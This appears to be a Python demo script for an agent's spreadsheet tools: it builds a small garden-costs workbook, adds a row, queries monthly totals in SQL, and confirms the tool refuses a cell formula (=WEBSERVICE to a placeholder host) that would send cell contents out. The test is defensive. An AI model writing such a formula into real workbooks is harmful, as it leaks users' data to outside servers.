"""The scene for ``mcp-agent demo``: a workbook from nothing, asked and changed, and what it does not do."""

from __future__ import annotations

from typing import Any

from mcp_agent import Stage

_ROWS: list[list[Any]] = [
    ["what", "month", "cost"],
    ["seeds", "March", 12.5],
    ["soil", "March", 30],
    ["rake", "April", 24.9],
]


async def keeps_the_books(stage: Stage) -> None:
    made = await stage.call("office_create_workbook", path="garden.xlsx", sheets=[{"name": "Costs", "rows": _ROWS}])
    if made.is_error:
        stage.say(f"It would make a workbook here: {made.text}")
        return
    added = await stage.call(
        "office_write_cells", path="garden.xlsx", rows=[{"what": "twine", "month": "April", "cost": 8}]
    )
    stage.check(not added.is_error, f"the row was not added: {added.text}")
    sql = "select month, sum(cost) as total from Costs group by month order by total desc"
    asked = await stage.call("office_query_sheet", path="garden.xlsx", sql=sql)
    stage.check(
        asked.data["rows"] == [{"month": "March", "total": 42.5}, {"month": "April", "total": 32.9}], asked.text
    )
    stage.say(f"It made a workbook, added a row and asked it in SQL: {asked.data['rows']}")
    spy = await stage.call("office_write_cells", path="garden.xlsx", rows=[['=WEBSERVICE("http://x/?" & A1)']], at="E1")
    stage.check(spy.is_error, "a formula that reaches out was written")
    stage.say(f"A formula that sends data away it does not write: {spy.text}")
